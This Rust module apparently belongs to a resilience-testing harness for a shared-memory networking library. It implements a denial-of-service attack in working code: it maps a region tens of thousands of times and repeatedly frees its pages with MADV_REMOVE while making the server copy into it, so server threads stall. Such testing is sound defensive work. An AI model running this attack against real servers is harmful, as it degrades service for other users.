//! Memory of apertures whose pages its owner frees again and again.

use std::io;
use std::time::{Duration, Instant};

use towpath_client::{
    Access, ApertureKey, Endpoint, Memory, OobAddress, Options, PeerState, Request, RequestState,
    Rule, Session, Sharing, WaitStrategy,
};

use crate::memory::shared_ranges;
use crate::{Deeds, Field, sys};

/// Mappings of the memory: a process may have 65 530.
const MAPPINGS: u64 = 60_000;
const MEMORY_BYTES: usize = 2 << 20;
/// The bytes of one request.
const REQUEST_BYTES: usize = 1 << 20;
/// `MADV_REMOVE`.
const REMOVE: i32 = 9;
/// The longest time until two endpoints are connected.
const CONNECTING: Duration = Duration::from_secs(20);

/// Two sessions of the attacker, connected with each other.
struct Sides {
    owner: Session,
    from: Endpoint,
    peer: Session,
    to: Endpoint,
}

fn other(error: impl std::error::Error + Send + Sync + 'static) -> io::Error {
    io::Error::other(error)
}

impl Sides {
    fn connect(field: &Field) -> io::Result<Sides> {
        let attach = |name: &str| {
            let options = Options {
                name: name.into(),
                oob_slots: 16,
                apertures: 16,
                wait_strategy: WaitStrategy::Block,
                ..Options::default()
            };
            Session::attach(&field.socket, &options).map_err(other)
        };
        let (mut owner, mut peer) = (attach("attacker's memory")?, attach("attacker's peer")?);
        let open = |session: &mut Session| {
            let rule = Rule::new().tcp(7471).out_of_band();
            session.open(&rule).map_err(other)
        };
        let (from, to) = (open(&mut owner)?, open(&mut peer)?);
        let address = |session: &Session, endpoint: Endpoint| -> io::Result<OobAddress> {
            let (ip, _) = session.info().ipv4.ok_or(io::ErrorKind::AddrNotAvailable)?;
            Ok(OobAddress { ip: ip.into(), protocol: 6, port: endpoint.port() })
        };
        owner.oob().request_connection(from, address(&peer, to)?, b"").map_err(other)?;
        owner.sender().flush().map_err(other)?;
        let until = Instant::now() + CONNECTING;
        while owner.peer_state(from) != PeerState::Connected {
            while let Some(message) = peer.oob().receive(to).map_err(other)? {
                peer.oob().accept_connection(to, message.from(), b"").map_err(other)?;
            }
            peer.sender().flush().map_err(other)?;
            if Instant::now() > until {
                return Err(io::Error::other("the attacker's sessions are not connected"));
            }
            std::thread::sleep(Duration::from_millis(1));
        }
        Ok(Sides { owner, from, peer, to })
    }

    /// Has the server write into the memory, until it has or the attack is over. Returns `true` if it has.
    fn write(&mut self, key: ApertureKey, local: &Memory, is_over: &dyn Fn() -> bool) -> bool {
        let request = Request::write(key, 0).local(local, 0..REQUEST_BYTES);
        let Ok(id) = self.peer.requests().queue(self.to, &request) else { return false };
        let mut goes_on = self.peer.sender().flush().is_ok();
        while goes_on && !is_over() && self.peer.requests().state(id) == RequestState::Pending {
            goes_on = self.peer.wait(Some(Duration::from_millis(20))).is_ok();
        }
        self.peer.requests().state(id) == RequestState::Complete
    }
}

/// Frees the pages of a memory again and again, which it maps tens of thousands of times, while requests make the
/// server copy there. The kernel walks all mappings for each freed range, and a thread that touches the range waits.
pub(crate) fn remove(field: &Field) -> io::Result<Deeds> {
    let mut sides = Sides::connect(field)?;
    let before = shared_ranges()?;
    let remote = sides.owner.memories().create(MEMORY_BYTES, Sharing::Requests).map_err(other)?;
    let (start, len) = new_range(&before)?;
    let range = 0..MEMORY_BYTES;
    let export = sides
        .owner
        .memories()
        .export(sides.from, &remote, range, Access::ReadWrite)
        .map_err(other)?;
    let local = sides.peer.memories().create(MEMORY_BYTES, Sharing::Requests).map_err(other)?;
    let alias = sys::alias_large(start, len).ok_or(io::ErrorKind::OutOfMemory)?;
    let count = field.size_or(MAPPINGS);
    let mapped = (0..count).filter(|_| sys::alias_again(alias, len)).count() as u64;
    let mut moved = u64::from(sides.write(export.key(), &local, &|| false));
    field.begun();
    let mut removed = 0;
    std::thread::scope(|scope| {
        let removing = scope.spawn(|| {
            let mut removed = 0_u64;
            while !field.over() {
                removed += u64::from(sys::advise(alias, len, REMOVE));
            }
            removed
        });
        while !field.over() {
            moved += u64::from(sides.write(export.key(), &local, &|| field.over()));
        }
        removed = removing.join().unwrap_or_default();
    });
    Ok(vec![("mapped", mapped), ("removed", removed), ("moved", moved)])
}

/// Returns the mapping that has come since.
fn new_range(before: &[(usize, usize)]) -> io::Result<(usize, usize)> {
    let after = shared_ranges()?;
    let new = after.into_iter().find(|one| !before.contains(one) && one.1 == MEMORY_BYTES);
    new.ok_or_else(|| io::Error::other("the memory is not mapped"))
}
